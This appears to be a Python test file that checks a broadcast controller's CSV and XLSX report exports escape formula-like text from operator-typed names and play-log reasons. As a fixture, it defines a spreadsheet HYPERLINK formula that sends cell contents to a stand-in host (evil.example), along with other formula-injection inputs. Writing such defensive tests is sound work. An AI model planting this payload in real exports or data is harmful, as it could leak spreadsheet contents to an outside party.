"""Issue 16: a station's text never becomes a formula in an exported report. A station sets
its play-log `reason`; area and station names are typed by operators. Every text cell of
the CSV and both XLSX sheets starting with = + - @ (or tab, CR) is written as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from controller.db.models import Area, Broadcast, Device, PlayLog
from controller.db.session import Database
from controller.services import reports

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def _seed(db: Database) -> None:
    with db.session() as s:
        commune = Area(level="commune", name="+Xã Hợp Hòa")
        s.add(commune)
        s.flush()
        dev = Device(uid="spk-f", name="@SUM(1+1)", kind="speaker", commune_id=commune.id, tags=[])
        bc = Broadcast(title="-Bản tin", media=[], start_at=datetime.now(UTC), duration_s=5, targets={})
        s.add_all([dev, bc])
        s.flush()
        t0 = datetime(2026, 12, 1, 7, 0, tzinfo=UTC)
        s.add(PlayLog(device_id=dev.id, broadcast_id=bc.id, item_id=f"b{bc.id}", status="failed",
                      started_at=t0, finished_at=t0, reason=EVIL))  # fmt: skip


def test_exports_write_formula_like_text_as_text(database_url: str) -> None:
    db = Database(database_url)
    db.migrate()
    _seed(db)
    with db.session() as s:
        xlsx = reports.to_xlsx(s, reports.Filters())
        text = reports.to_csv(s, reports.Filters()).decode("utf-8-sig")
    wb = load_workbook(io.BytesIO(xlsx))
    log_sheet, monthly = wb.worksheets
    cells = [c for row in log_sheet.iter_rows(min_row=2) for c in row]
    cells += [c for row in monthly.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the XLSX"
    values = {c.value for c in cells}
    assert {"'" + EVIL, "'+Xã Hợp Hòa", "'@SUM(1+1)", "'-Bản tin"} <= values
    (_, line) = list(csv.reader(io.StringIO(text)))
    assert line[2:7] == ["'+Xã Hợp Hòa", "", "'@SUM(1+1)", "spk-f", "'-Bản tin"] and line[-1] == "'" + EVIL
    assert not [v for v in line if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    db.dispose()


def test_safe_cell_leaves_numbers_and_plain_text() -> None:
    assert reports.safe_cell(-3.5) == -3.5 and reports.safe_cell(None) is None
    assert reports.safe_cell("Đã phát") == "Đã phát"
    assert reports.safe_cell("\tcmd") == "'\tcmd" and reports.safe_cell("\r=1") == "'\r=1"
